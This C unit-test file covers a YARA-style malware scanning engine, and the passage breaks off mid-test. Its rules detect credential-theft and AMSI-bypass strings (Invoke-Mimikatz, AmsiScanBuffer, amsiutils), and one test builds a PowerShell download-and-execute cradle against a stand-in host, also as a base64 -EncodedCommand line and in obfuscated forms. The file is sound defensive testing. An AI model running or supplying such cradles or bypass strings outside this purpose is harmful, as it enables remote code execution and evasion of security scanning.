/*
 * test_scan.c - the scanner (engine/src/scan.c): YARA semantics of every string kind and condition
 * form on real buffers, the views (UTF-16LE narrowed, normalised only for rules that ask), decoded
 * children and their object paths, the decode bounds, streams with signatures split across
 * writes, and many threads sharing one rule set with their own scratch.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <zlib.h>

#include "engine/engine.h"
#include "rules.h"

static engine_rules *compile(const char *text)
{
    engine_rules *rules = NULL;
    engine_diag diag;
    int rc = engine_rules_compile_string(text, "t.yar", NULL, &rules, &diag);
    if (rc != 0)
        fail_msg("compile: %s", diag.text);
    return rules;
}

/* Scans data and returns the matched rule names joined by ',' (in match order), or "". */
static char *scan_names(engine_rules *rules, const engine_config *cfg, const void *data, size_t len,
                        unsigned hints, char **object)
{
    engine_scratch *s = NULL;
    assert_int_equal(engine_scratch_create(rules, &s), 0);
    engine_result res;
    assert_int_equal(engine_scan_buffer(rules, s, cfg, data, len, NULL, hints, &res), 0);
    char *out = calloc(1, 1024);
    assert_non_null(out);
    for (size_t i = 0; i < res.match_count; i++) {
        strcat(out, i ? "," : "");
        strcat(out, res.matches[i].rule);
    }
    if (res.match_count) {
        assert_int_equal(res.verdict, ENGINE_VERDICT_DETECTED);
        assert_int_equal(res.amsi_result, ENGINE_AMSI_DETECTED);
    } else {
        assert_int_equal(res.amsi_result, ENGINE_AMSI_NOT_DETECTED);
    }
    if (object)
        *object = res.object ? strdup(res.object) : NULL;
    engine_result_cleanup(&res);
    engine_scratch_destroy(s);
    return out;
}

static void expect(engine_rules *rules, const engine_config *cfg, const char *data, size_t len,
                   const char *names)
{
    char *got = scan_names(rules, cfg, data, len, 0, NULL);
    if (strcmp(got, names) != 0)
        fail_msg("buffer '%.*s': expected [%s], got [%s]", (int)len, data, names, got);
    free(got);
}

#define EXPECT(rules, cfg, lit, names) expect(rules, cfg, lit, sizeof(lit) - 1, names)

static engine_config raw_only(void)
{
    engine_config cfg;
    engine_config_init(&cfg);
    cfg.narrow_utf16 = false;
    cfg.normalize = false;
    cfg.decode_base64 = false;
    return cfg;
}

static void test_text_strings(void **state)
{
    (void)state;
    engine_config cfg = raw_only();
    engine_rules *r = compile("rule exact { strings: $a = \"Invoke\" condition: $a }\n"
                              "rule caseless { strings: $a = \"mimikatz\" nocase condition: $a }\n"
                              "rule wide16 { strings: $a = \"AB\" wide condition: $a }\n"
                              "rule both { strings: $a = \"CD\" ascii wide condition: $a }\n");
    EXPECT(r, &cfg, "x Invoke y", "exact");
    EXPECT(r, &cfg, "x invoke y", "");
    EXPECT(r, &cfg, "MiMiKaTz", "caseless");
    EXPECT(r, &cfg, "A\0B\0", "wide16");
    EXPECT(r, &cfg, "AB", "");
    EXPECT(r, &cfg, "CD", "both");
    EXPECT(r, &cfg, "C\0D\0", "both");
    EXPECT(r, &cfg, "", "");
    engine_rules_unref(r);
}

static void test_fullword_like_yara(void **state)
{
    (void)state;
    engine_config cfg = raw_only();
    engine_rules *r = compile("rule fw { strings: $a = \"exec\" fullword condition: $a }\n"
                              "rule fww { strings: $a = \"run\" wide fullword condition: $a }\n");
    EXPECT(r, &cfg, "exec", "fw");
    EXPECT(r, &cfg, " exec.", "fw");
    EXPECT(r, &cfg, "_exec_", "fw"); /* '_' is not alphanumeric for YARA */
    EXPECT(r, &cfg, "xexec", "");
    EXPECT(r, &cfg, "exec1", "");
    EXPECT(r, &cfg, "execs exec", "fw"); /* the second occurrence is a word */
    EXPECT(r, &cfg, "r\0u\0n\0", "fww");
    EXPECT(r, &cfg, "a\0r\0u\0n\0", "");
    EXPECT(r, &cfg, "r\0u\0n\0s\0", "");
    EXPECT(r, &cfg, " \0r\0u\0n\0.\0", "fww");
    EXPECT(r, &cfg, "r\0u\0n\0s", "fww"); /* no full character after it */
    engine_rules_unref(r);
}

static void test_hex_and_regex(void **state)
{
    (void)state;
    engine_config cfg = raw_only();
    engine_rules *r =
        compile("rule lit { strings: $a = { 4D 5A 90 00 } condition: $a }\n"
                "rule wild { strings: $a = { 50 45 ?? 4? ?C [2] 00 } condition: $a }\n"
                "rule jump { strings: $a = { AA [1-3] BB } condition: $a }\n"
                "rule alt { strings: $a = { CC ( 01 | 02 03 ) DD } condition: $a }\n"
                "rule re { strings: $a = /down(load)?string\\(/i condition: $a }\n"
                "rule dot { strings: $a = /a.b/ condition: $a }\n"
                "rule dots { strings: $a = /c.d/s condition: $a }\n");
    EXPECT(r, &cfg, "..MZ\x90\x00..", "lit");
    EXPECT(r, &cfg, "PE\x01\x41\x3c..\x00", "wild");
    EXPECT(r, &cfg, "PE\x01\x51\x3c..\x00", "");
    EXPECT(r, &cfg, "\xaa\x01\xbb", "jump");
    EXPECT(r, &cfg, "\xaa\x01\x02\x03\x04\xbb", "");
    EXPECT(r, &cfg, "\xcc\x02\x03\xdd", "alt");
    EXPECT(r, &cfg, "\xcc\x02\xdd", "");
    EXPECT(r, &cfg, "(New-Object Net.WebClient).DownloadString('x')", "re");
    EXPECT(r, &cfg, "a\nb", "");
    EXPECT(r, &cfg, "c\nd", "dots");
    engine_rules_unref(r);
}

static void test_conditions(void **state)
{
    (void)state;
    engine_config cfg = raw_only();
    engine_rules *r = compile(
        "rule any1 { strings: $a = \"one\" $b = \"two\" condition: any of them }\n"
        "rule all2 { strings: $a = \"one\" $b = \"two\" condition: all of them }\n"
        "rule two { strings: $a = \"one\" $b = \"two\" $c = \"six\" condition: 2 of them }\n"
        "rule xset { strings: $x1 = \"xa\" $x2 = \"xb\" $y = \"yy\" condition: 2 of ($x*) or #y > "
        "5 }\n"
        "rule cnt { strings: $a = \"ab\" condition: #a >= 3 }\n"
        "rule eq { strings: $a = \"q\" condition: #a == 2 }\n"
        "rule notb { strings: $a = \"hello\" $b = \"world\" condition: $a and not $b }\n"
        "rule no_zz { strings: $a = \"zz\" condition: none of them and filesize == 13 }\n"
        "rule big { condition: filesize > 1KB }\n");
    EXPECT(r, &cfg, "one", "any1");
    EXPECT(r, &cfg, "two one", "any1,all2,two");
    EXPECT(r, &cfg, "six one", "any1,two");
    EXPECT(r, &cfg, "xa xb", "xset");
    EXPECT(r, &cfg, "xa yy", "");
    EXPECT(r, &cfg, "ab ab", "");
    EXPECT(r, &cfg, "ababab", "cnt"); /* overlapping occurrences count, as in YARA */
    EXPECT(r, &cfg, "q..q", "eq");
    EXPECT(r, &cfg, "qqq.", "");
    EXPECT(r, &cfg, "hello", "notb");
    EXPECT(r, &cfg, "hello world", "");
    EXPECT(r, &cfg, "abcdefghijklm", "no_zz");
    EXPECT(r, &cfg, "zzcdefghijklm", "");
    char big[1025];
    memset(big, '.', sizeof(big));
    expect(r, &cfg, big, sizeof(big), "big");
    engine_rules_unref(r);
}

static void test_counts_saturate_not_wrap(void **state)
{
    (void)state;
    engine_config cfg = raw_only();
    engine_rules *r = compile("rule many { strings: $a = \"a\" condition: #a > 100000 }\n");
    size_t n = 200000;
    char *buf = malloc(n);
    assert_non_null(buf);
    memset(buf, 'a', n);
    expect(r, &cfg, buf, n, "many");
    free(buf);
    engine_rules_unref(r);
}

static void test_utf16_view(void **state)
{
    (void)state;
    engine_config cfg;
    engine_config_init(&cfg);
    engine_rules *r = compile("rule iex { strings: $a = \"Invoke-Expression\" condition: $a }\n");
    const char *s = "x Invoke-Expression y";
    size_t n = strlen(s);
    char *w = calloc(2 * n + 2, 1);
    assert_non_null(w);
    w[0] = (char)0xff;
    w[1] = (char)0xfe;
    for (size_t i = 0; i < n; i++)
        w[2 + 2 * i] = s[i];
    char *object = NULL;
    char *got = scan_names(r, &cfg, w, 2 * n + 2, 0, &object);
    assert_string_equal(got, "iex");
    assert_string_equal(object, "buffer");
    free(got);
    free(object);
    /* Without the BOM the caller's hint (AmsiScanString) or the NUL pattern still tells. */
    got = scan_names(r, &cfg, w + 2, 2 * n, ENGINE_HINT_UTF16LE, NULL);
    assert_string_equal(got, "iex");
    free(got);
    cfg.narrow_utf16 = false;
    got = scan_names(r, &cfg, w, 2 * n + 2, 0, NULL);
    assert_string_equal(got, "");
    free(got);
    free(w);
    engine_rules_unref(r);
}

static void test_normalized_only_when_asked(void **state)
{
    (void)state;
    engine_config cfg;
    engine_config_init(&cfg);
    engine_rules *r =
        compile("rule exact { strings: $a = \"Invoke-Expression\" condition: $a }\n"
                "rule norm : normalized { strings: $a = \"invoke-expression\" condition: $a }\n"
                "rule norm_meta { meta: amsi_normalized = true strings: $a = \"iex (new-object\" "
                "condition: $a }\n");
    EXPECT(r, &cfg, "I`nv`oke-Ex`pression", "norm");
    EXPECT(r, &cfg, "('Invo'+'ke-Exp' + \"ression\")", "norm");
    EXPECT(r, &cfg, "INVOKE-EXPRESSION", "norm");
    EXPECT(r, &cfg, "# don't\n& ('Invo'+'ke-Exp' + 'ression')", "norm");
    /* The first view that detects ends the scan: the raw view reports only the exact rule. */
    EXPECT(r, &cfg, "Invoke-Expression", "exact");
    EXPECT(r, &cfg, "IEX   (New-Object", "norm_meta");
    EXPECT(r, &cfg, "Invoke-Expresion", "");
    cfg.normalize = false;
    EXPECT(r, &cfg, "I`nv`oke-Ex`pression", "");
    engine_rules_unref(r);
    /* A normalised rule written in any case (text or hex) matches without case on that view. */
    engine_config_init(&cfg);
    r = compile("rule upper : normalized { strings: $a = \"Net.WebClient\" condition: $a }\n"
                "rule hex : normalized { strings: $h = { 44 6F 57 6E } condition: $h }\n");
    EXPECT(r, &cfg, "(New-Object ne`T.wEbC`liEnT)", "upper");
    EXPECT(r, &cfg, "'D'+'OW'+'n'", "hex");
    EXPECT(r, &cfg, "net.web client", "");
    engine_rules_unref(r);
}

/* One obfuscated form of word: as written, in random case, with backticks, or as 'a'+'b'. */
static size_t obfuscate(uint64_t *rng, const char *word, char *out)
{
    size_t n = strlen(word), w = 0;
    *rng = *rng * 6364136223846793005ull + 1442695040888963407ull;
    unsigned how = (unsigned)(*rng >> 33) % 4;
    size_t cut = n > 2 ? 1 + (size_t)(*rng >> 40) % (n - 1) : n;
    if (how == 3)
        out[w++] = '\'';
    for (size_t i = 0; i < n; i++) {
        char ch = word[i];
        if (how >= 1 && (*rng >> (i % 60)) & 1)
            ch = (char)(ch >= 'a' && ch <= 'z' ? ch - 32 : ch);
        if (how == 2 && i > 0 && (*rng >> ((i * 7) % 60)) & 1 && ch != 'n' && ch != 't' &&
            ch != 'r' && ch != 'a' && ch != 'b' && ch != 'f' && ch != 'v' && ch != '0' &&
            ch != 'e' && ch != 'u')
            out[w++] = '`';
        if (how == 3 && i == cut) {
            memcpy(out + w, "'+'", 3);
            w += 3;
        }
        out[w++] = ch;
    }
    if (how == 3)
        out[w++] = '\'';
    out[w] = '\0';
    return w;
}

/*
 * The normalised view's gate (rules_compile.c, plan_gate()) changes no verdict: the same rules
 * with one more normalized rule that has no gate, so that no gate database is built, give the
 * same answers on texts made of the rules' strings in obfuscated forms.
 */
static void test_normalized_gate_changes_nothing(void **state)
{
    (void)state;
    static const char rules[] =
        "rule cradle : normalized { strings: $a = \"net.webclient\" $b = \"downloadstring\" "
        "$c = \"iex\" fullword condition: $a and $b and $c }\n"
        "rule two : normalized { strings: $x = \"frombase64string\" $y = \"gzipstream\" "
        "$z = \"readtoend\" condition: 2 of them }\n"
        "rule count : normalized { strings: $p = \"[char]\" $q = \"-join\" "
        "condition: #p > 2 and $q }\n"
        "rule re : normalized { strings: $r = /set-item ?variable/ $s = \"amsiutils\" "
        "condition: $r and $s }\n"
        "rule either : normalized { strings: $m = \"virtualalloc\" $n = \"createthread\" "
        "condition: $m or $n }\n";
    static const char ungated[] =
        "rule ungated : normalized { strings: $u = \"zz\" condition: filesize == 0 and not $u }\n";
    static const char *const words[] = {"net.webclient",
                                        "downloadstring",
                                        "iex",
                                        "frombase64string",
                                        "gzipstream",
                                        "readtoend",
                                        "[char]",
                                        "-join",
                                        "set-item variable",
                                        "setitemvariable",
                                        "amsiutils",
                                        "virtualalloc",
                                        "createthread",
                                        "write-host",
                                        "get-item",
                                        "$x =",
                                        "(",
                                        ")",
                                        ";",
                                        "\n"};
    char both[sizeof(rules) + sizeof(ungated)];
    snprintf(both, sizeof(both), "%s%s", rules, ungated);
    engine_rules *gated = compile(rules), *plain = compile(both);
    /* The rules take a gate database, smaller than their normalised one; one ungated rule more
     * and there is none. */
    assert_non_null(gated->dbs[ENGINE__DB_NORM_GATE].db);
    assert_true(gated->dbs[ENGINE__DB_NORM_GATE].npats < gated->dbs[ENGINE__DB_NORM].npats);
    assert_null(plain->dbs[ENGINE__DB_NORM_GATE].db);
    engine_config cfg;
    engine_config_init(&cfg);
    uint64_t rng = 42;
    unsigned detected = 0;
    for (unsigned t = 0; t < 2000; t++) {
        char text[2048];
        size_t w = 0;
        unsigned nwords = 1 + t % 9;
        for (unsigned k = 0; k < nwords; k++) {
            rng = rng * 6364136223846793005ull + 1442695040888963407ull;
            const char *word = words[(rng >> 35) % (sizeof(words) / sizeof(words[0]))];
            w += obfuscate(&rng, word, text + w);
            text[w++] = (rng >> 20) & 1 ? ' ' : '\t';
        }
        char *a = scan_names(gated, &cfg, text, w, 0, NULL);
        char *b = scan_names(plain, &cfg, text, w, 0, NULL);
        if (strcmp(a, b) != 0)
            fail_msg("'%.*s': with the gate [%s], without [%s]", (int)w, text, a, b);
        detected += a[0] != '\0';
        free(a);
        free(b);
    }
    /* The texts reach every kind of answer, not only clean ones. */
    assert_true(detected > 200);
    assert_true(detected < 1900);
    engine_rules_unref(gated);
    engine_rules_unref(plain);
}

/* Raw deflate (.NET DeflateStream), zlib or gzip of data, by windowBits. */
static size_t deflate_buf(const char *in, size_t n, unsigned char *out, size_t cap, int bits)
{
    z_stream z;
    memset(&z, 0, sizeof(z));
    assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, bits, 8, Z_DEFAULT_STRATEGY), Z_OK);
    z.next_in = (unsigned char *)(uintptr_t)in;
    z.avail_in = (unsigned)n;
    z.next_out = out;
    z.avail_out = (unsigned)cap;
    assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
    size_t len = z.total_out;
    deflateEnd(&z);
    return len;
}

static char *base64(const unsigned char *in, size_t n)
{
    static const char tbl[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    char *out = malloc(4 * ((n + 2) / 3) + 1);
    assert_non_null(out);
    size_t o = 0;
    for (size_t i = 0; i < n; i += 3) {
        uint32_t v = (uint32_t)in[i] << 16 | (i + 1 < n ? (uint32_t)in[i + 1] << 8 : 0) |
                     (i + 2 < n ? in[i + 2] : 0);
        out[o++] = tbl[v >> 18 & 63];
        out[o++] = tbl[v >> 12 & 63];
        out[o++] = i + 1 < n ? tbl[v >> 6 & 63] : '=';
        out[o++] = i + 2 < n ? tbl[v & 63] : '=';
    }
    out[o] = '\0';
    return out;
}

/* gzip of in[0..n), into a malloc'd buffer; its length in *len. */
static unsigned char *gzip_of(const char *in, size_t n, size_t *len)
{
    size_t cap = n + n / 8 + 1024;
    unsigned char *out = malloc(cap);
    assert_non_null(out);
    *len = deflate_buf(in, n, out, cap, 31);
    return out;
}

/* n bytes of filler script, with sig (if any) written at offset at. */
static char *filler(size_t n, const char *sig, size_t at)
{
    static const char line[] = "Get-ChildItem -Path $env:TEMP -Recurse | Out-Null\r\n";
    char *p = malloc(n);
    assert_non_null(p);
    for (size_t i = 0; i < n; i++)
        p[i] = line[i % (sizeof line - 1)];
    if (sig != NULL)
        memcpy(p + at, sig, strlen(sig));
    return p;
}

/*
 * One scratch scans objects of growing and shrinking sizes, so its kept view and member buffers
 * are reused, replaced and outgrown: every verdict is what a fresh scratch gives, and a match
 * left in a kept buffer by one scan is never seen by the next. A signature that straddles the
 * 64 KiB pieces a gzip member is decoded in is found in the raw and normalised views.
 */
static void test_scratch_buffers_between_scans(void **state)
{
    (void)state;
    engine_config cfg;
    engine_config_init(&cfg);
    cfg.scan_archives = true;
    cfg.max_ratio = 100000; /* the filler compresses far better than 250:1 */
    engine_rules *r =
        compile("rule exact { strings: $a = \"Invoke-Mimikatz\" condition: $a }\n"
                "rule norm : normalized { strings: $a = \"invoke-expression\" condition: $a }\n");
    engine_scratch *s = NULL;
    assert_int_equal(engine_scratch_create(r, &s), 0);
    static const struct {
        size_t size, at;
        const char *sig, *want;
    } cases[] = {
        {300000, 65536 - 7, "Invoke-Mimikatz", "exact"},
        {300000, 0, NULL, ""},
        {300000, 2 * 65536 - 9, "I`nvoke-Ex`pression", "norm"},
        {40000, 0, NULL, ""},
        {3u << 20, (3u << 20) - 20, "INVOKE-EXPRESSION", "norm"},
        {3u << 20, 0, NULL, ""},
        {5000, 4000, "Invoke-Mimikatz", "exact"},
        {5000, 0, NULL, ""},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char *text = filler(cases[i].size, cases[i].sig, cases[i].at);
        size_t zlen;
        unsigned char *z = gzip_of(text, cases[i].size, &zlen);
        const void *bufs[2] = {text, z};
        size_t lens[2] = {cases[i].size, zlen};
        for (int k = 0; k < 2; k++) {
            engine_result res;
            assert_int_equal(engine_scan_buffer(r, s, &cfg, bufs[k], lens[k], NULL, 0, &res), 0);
            const char *got = res.match_count ? res.matches[0].rule : "";
            if (strcmp(got, cases[i].want) != 0)
                fail_msg("case %zu (%s): got '%s', want '%s'", i, k ? "gzip" : "text", got,
                         cases[i].want);
            engine_result_cleanup(&res);
        }
        free(z);
        free(text);
    }
    engine_scratch_destroy(s);
    engine_rules_unref(r);
}

/*
 * Containers nested deeper than the scratch keeps buffers for (20 gzip layers around a script)
 * still give their verdict: past the kept slots, buffers are allocated and freed per use.
 */
static void test_nesting_past_kept_buffers(void **state)
{
    (void)state;
    engine_config cfg;
    engine_config_init(&cfg);
    cfg.scan_archives = true;
    cfg.max_recursion = 30;
    engine_rules *r = compile("rule norm : normalized { strings: $a = \"invoke-expression\" "
                              "condition: $a }\n");
    char *text = filler(100000, "Invoke-Ex`pression", 50000);
    size_t len = 100000;
    unsigned char *cur = (unsigned char *)text;
    for (int layer = 0; layer < 20; layer++) {
        size_t zlen;
        unsigned char *z = gzip_of((const char *)cur, len, &zlen);
        if (cur != (unsigned char *)text)
            free(cur);
        cur = z;
        len = zlen;
    }
    engine_scratch *s = NULL;
    assert_int_equal(engine_scratch_create(r, &s), 0);
    for (int round = 0; round < 2; round++) {
        engine_result res;
        assert_int_equal(engine_scan_buffer(r, s, &cfg, cur, len, NULL, 0, &res), 0);
        assert_int_equal(res.verdict, ENGINE_VERDICT_DETECTED);
        assert_int_equal(res.matches[0].view, ENGINE_VIEW_NORMALIZED);
        engine_result_cleanup(&res);
        /* And a plain script with the same scratch afterwards. */
        EXPECT(r, &cfg, "I`nv`oke-Ex`pression", "norm");
    }
    engine_scratch_destroy(s);
    free(cur);
    free(text);
    engine_rules_unref(r);
}

static void test_decoded_children(void **state)
{
    (void)state;
    engine_config cfg;
    engine_config_init(&cfg);
    engine_rules *r =
        compile("rule cradle { strings: $a = \"DownloadString('http\" condition: $a }");
    const char *payload = "$c=New-Object Net.WebClient; IEX $c.DownloadString('http://x/a.ps1')";

    /* -EncodedCommand: base64 of UTF-16LE. */
    size_t n = strlen(payload);
    unsigned char *wide = calloc(2 * n, 1);
    assert_non_null(wide);
    for (size_t i = 0; i < n; i++)
        wide[2 * i] = (unsigned char)payload[i];
    char *b64 = base64(wide, 2 * n);
    char cmd[2048];
    snprintf(cmd, sizeof(cmd), "powershell.exe -NoP -EncodedCommand %s", b64);
    char *object = NULL;
    char *got = scan_names(r, &cfg, cmd, strlen(cmd), 0, &object);
    assert_string_equal(got, "cradle");
    assert_string_equal(object, "buffer>base64@36");
    free(got);
    free(object);
    free(b64);
    free(wide);

    /* base64 of raw deflate, zlib and gzip. */
    static const struct {
        int bits;
        const char *path;
    } codecs[] = {{-15, "buffer>base64@10>deflate"},
                  {15, "buffer>base64@10>zlib"},
                  {31, "buffer>base64@10>gzip"}};
    for (size_t i = 0; i < 3; i++) {
        unsigned char z[512];
        size_t zn = deflate_buf(payload, n, z, sizeof(z), codecs[i].bits);
        b64 = base64(z, zn);
        snprintf(cmd, sizeof(cmd), "$d = '1'; %s", b64);
        /* The base64 run starts at offset 10 of the buffer. */
        got = scan_names(r, &cfg, cmd, strlen(cmd), 0, &object);
        assert_string_equal(got, "cradle");
        assert_string_equal(object, codecs[i].path);
        free(got);
        free(object);
        free(b64);
    }

    /* Off: nothing decoded. Depth 0: no child at all. */
    snprintf(cmd, sizeof(cmd), "x %s", "RG93bmxvYWRTdHJpbmcoJ2h0dHA6Ly9leGFtcGxlJyk=");
    cfg.decode_base64 = false;
    got = scan_names(r, &cfg, cmd, strlen(cmd), 0, NULL);
    assert_string_equal(got, "");
    free(got);
    cfg.decode_base64 = true;
    cfg.max_decode_depth = 0;
    got = scan_names(r, &cfg, cmd, strlen(cmd), 0, NULL);
    assert_string_equal(got, "");
    free(got);
    cfg.max_decode_depth = 3;
    got = scan_names(r, &cfg, cmd, strlen(cmd), 0, &object);
    assert_string_equal(got, "cradle");
    assert_string_equal(object, "buffer>base64@2");
    free(got);
    free(object);
    engine_rules_unref(r);
}

static void test_decode_depth_bound(void **state)
{
    (void)state;
    engine_config cfg;
    engine_config_init(&cfg);
    engine_rules *r = compile("rule deep { strings: $a = \"MARKER-STRING-0123\" condition: $a }");
    /* Four layers of base64: found at depth 4 only when allowed. */
    char *layer = strdup("xx MARKER-STRING-0123 xx");
    for (int i = 0; i < 4; i++) {
        char *next = base64((const unsigned char *)layer, strlen(layer));
        free(layer);
        layer = next;
    }
    char *got = scan_names(r, &cfg, layer, strlen(layer), 0, NULL);
    assert_string_equal(got, "");
    free(got);
    cfg.max_decode_depth = 4;
    char *object = NULL;
    got = scan_names(r, &cfg, layer, strlen(layer), 0, &object);
    assert_string_equal(got, "deep");
    assert_string_equal(object, "buffer>base64@0>base64@0>base64@0>base64@0");
    free(got);
    free(object);
    free(layer);
    engine_rules_unref(r);
}

static void test_meta_and_object_name(void **state)
{
    (void)state;
    engine_rules *r = compile("rule m { meta: d = \"desc\" n = 7 strings: $a = \"evil\" "
                              "condition: $a }");
    engine_scratch *s = NULL;
    assert_int_equal(engine_scratch_create(r, &s), 0);
    engine_result res;
    assert_int_equal(engine_scan_buffer(r, s, NULL, "so evil", 7, "script.ps1", 0, &res), 0);
    assert_int_equal(res.match_count, 1);
    assert_string_equal(res.object, "script.ps1");
    assert_int_equal(res.matches[0].meta_count, 2);
    assert_string_equal(res.matches[0].meta_keys[0], "d");
    assert_string_equal(res.matches[0].meta_values[0], "desc");
    assert_string_equal(res.matches[0].meta_values[1], "7");
    assert_null(res.reason);
    engine_result_cleanup(&res);
    /* The result owns its strings: they outlive the rule set. */
    assert_int_equal(engine_scan_buffer(r, s, NULL, "so evil", 7, NULL, 0, &res), 0);
    engine_scratch_destroy(s);
    engine_rules_unref(r);
    assert_string_equal(res.matches[0].rule, "m");
    engine_result_cleanup(&res);
}

static void test_scan_time_limit(void **state)
{
    (void)state;
    engine_config cfg;
    engine_config_init(&cfg);
    cfg.max_scan_time_ms = 1;
    engine_rules *r = compile("rule x { strings: $a = \"never-present-string\" condition: $a }");
    /* Many base64 runs to decode: the deadline stops the walk with a limit verdict. */
    size_t n = 8u << 20;
    char *buf = malloc(n);
    assert_non_null(buf);
    for (size_t i = 0; i < n; i++)
        buf[i] = (i % 41 == 40) ? ' ' : "QUJD"[i % 4];
    engine_scratch *s = NULL;
    assert_int_equal(engine_scratch_create(r, &s), 0);
    engine_result res;
    assert_int_equal(engine_scan_buffer(r, s, &cfg, buf, n, NULL, 0, &res), 0);
    assert_int_equal(res.verdict, ENGINE_VERDICT_LIMIT);
    assert_string_equal(res.reason, "Limits.Exceeded.MaxScanTime");
    assert_int_equal(res.amsi_result, ENGINE_AMSI_NOT_DETECTED);
    engine_result_cleanup(&res);
    engine_scratch_destroy(s);
    engine_rules_unref(r);
    free(buf);
}

static void test_scratch_trim(void **state)
{
    (void)state;
    engine_rules *r = compile("rule norm : normalized { strings: $a = \"invoke-expression\" "
                              "condition: $a }");
    engine_scratch *s = NULL;
    assert_int_equal(engine_scratch_create(r, &s), 0);
    assert_int_equal(engine_scratch_trim(s), 0);
    /* A 3 MiB script: its normalised view is kept by the scratch for the next request. */
    size_t n = 3u << 20;
    char *buf = malloc(n);
    assert_non_null(buf);
    memset(buf, 'x', n);
    memcpy(buf + n - 20, "I`nvoke-Expression", 18);
    engine_result res;
    for (int round = 0; round < 2; round++) {
        assert_int_equal(engine_scan_buffer(r, s, NULL, buf, n, NULL, 0, &res), 0);
        assert_int_equal(res.verdict, ENGINE_VERDICT_DETECTED);
        assert_string_equal(res.matches[0].rule, "norm");
        engine_result_cleanup(&res);
        /* Trimmed, the kept buffers are freed; the next scan allocates them again. */
        assert_true(engine_scratch_trim(s) >= n);
        assert_int_equal(engine_scratch_trim(s), 0);
    }
    assert_int_equal(engine_scratch_trim(NULL), 0);
    engine_scratch_destroy(s);
    engine_rules_unref(r);
    free(buf);
}

static bool has_rule(const engine_result *res, const char *name)
{
    for (size_t i = 0; i < res->match_count; i++)
        if (strcmp(res->matches[i].rule, name) == 0)
            return true;
    return false;
}

static void test_stream_split_signature(void **state)
{
    (void)state;
    engine_rules *r = compile("rule sig { strings: $a = \"AmsiScanBuffer\" condition: $a }\n"
                              "rule fw { strings: $a = \"patch\" fullword condition: $a }\n"
                              "rule cnt { strings: $a = \"xy\" condition: #a == 3 }\n"
                              "rule end { strings: $a = /tail$/ condition: $a }\n");
    engine_scratch *s = NULL;
    assert_int_equal(engine_scratch_create(r, &s), 0);
    engine_stream *st = NULL;
    assert_int_equal(engine_stream_open(r, "session", &st), 0);
    engine_result res;
    assert_int_equal(engine_stream_write(st, s, "[Ref].Assembly; AmsiSca", 23, &res), 0);
    assert_int_equal(res.match_count, 0);
    engine_result_cleanup(&res);
    assert_int_equal(engine_stream_write(st, s, "nBuffer xy", 10, &res), 0);
    assert_int_equal(res.match_count, 1);
    assert_string_equal(res.matches[0].rule, "sig");
    assert_string_equal(res.object, "session");
    engine_result_cleanup(&res);
    /* fullword across writes: "patch" then "es" is not a word; "patch" then " " is. */
    assert_int_equal(engine_stream_write(st, s, "x pat", 5, NULL), 0);
    assert_int_equal(engine_stream_write(st, s, "ch", 2, NULL), 0);
    assert_int_equal(engine_stream_write(st, s, "es ", 3, &res), 0);
    assert_int_equal(res.match_count, 1);
    engine_result_cleanup(&res);
    assert_int_equal(engine_stream_write(st, s, "patch", 5, NULL), 0);
    assert_int_equal(engine_stream_write(st, s, " xyxy tail", 10, &res), 0);
    assert_int_equal(res.match_count, 3);
    assert_true(has_rule(&res, "sig") && has_rule(&res, "fw") && has_rule(&res, "cnt"));
    engine_result_cleanup(&res);
    /* `tail$` can only be decided once the stream has ended. */
    assert_int_equal(engine_stream_close(st, s, &res), 0);
    assert_int_equal(res.match_count, 4);
    assert_true(has_rule(&res, "end"));
    assert_int_equal(res.bytes_scanned, 58);
    engine_result_cleanup(&res);

    /* A fullword match at the very end of a stream is decided at close. */
    assert_int_equal(engine_stream_open(r, NULL, &st), 0);
    assert_int_equal(engine_stream_write(st, s, "a patch", 7, &res), 0);
    assert_int_equal(res.match_count, 0);
    engine_result_cleanup(&res);
    assert_int_equal(engine_stream_close(st, s, &res), 0);
    assert_int_equal(res.match_count, 1);
    assert_string_equal(res.object, "stream");
    engine_result_cleanup(&res);
    engine_scratch_destroy(s);
    /* The stream keeps its own reference: dropping ours first is safe. */
    assert_int_equal(engine_stream_open(r, NULL, &st), 0);
    engine_rules_unref(r);
    assert_int_equal(engine_stream_close(st, NULL, NULL), 0);
}

typedef struct worker {
    engine_rules *rules;
    int detected;
    int failed;
} worker;

static void *scan_thread(void *arg)
{
    worker *w = arg;
    engine_scratch *s = NULL;
    if (engine_scratch_create(w->rules, &s) != 0) {
        w->failed++;
        return NULL;
    }
    for (int i = 0; i < 2000; i++) {
        char buf[128];
        int n = snprintf(buf, sizeof(buf), "line %d %s", i, (i % 2) ? "Invoke-Mimikatz" : "ok");
        engine_result res;
        if (engine_scan_buffer(w->rules, s, NULL, buf, (size_t)n, NULL, 0, &res) != 0) {
            w->failed++;
            continue;
        }
        w->detected += res.verdict == ENGINE_VERDICT_DETECTED;
        engine_result_cleanup(&res);
    }
    engine_scratch_destroy(s);
    return NULL;
}

static void test_threads_share_rules(void **state)
{
    (void)state;
    engine_rules *r = compile("rule mk { strings: $a = \"Invoke-Mimikatz\" condition: $a }");
    pthread_t th[4];
    worker w[4];
    for (int i = 0; i < 4; i++) {
        w[i] = (worker){engine_rules_ref(r), 0, 0};
        assert_int_equal(pthread_create(&th[i], NULL, scan_thread, &w[i]), 0);
    }
    engine_rules_unref(r); /* the workers' references keep the set alive */
    for (int i = 0; i < 4; i++) {
        pthread_join(th[i], NULL);
        assert_int_equal(w[i].failed, 0);
        assert_int_equal(w[i].detected, 1000);
        engine_rules_unref(w[i].rules);
    }
}

static void test_scratch_follows_a_new_rule_set(void **state)
{
    (void)state;
    engine_rules *a = compile("rule a { strings: $a = \"alpha\" condition: $a }");
    engine_rules *b = compile("rule b1 { strings: $a = \"beta\" condition: $a }\n"
                              "rule b2 { strings: $a = /gam+a/ condition: $a }\n"
                              "rule b3 : normalized { strings: $a = \"delta\" condition: $a }");
    engine_scratch *s = NULL;
    assert_int_equal(engine_scratch_create(a, &s), 0);
    engine_result res;
    assert_int_equal(engine_scan_buffer(b, s, NULL, "beta gammma", 11, NULL, 0, &res), 0);
    assert_int_equal(res.match_count, 2);
    engine_result_cleanup(&res);
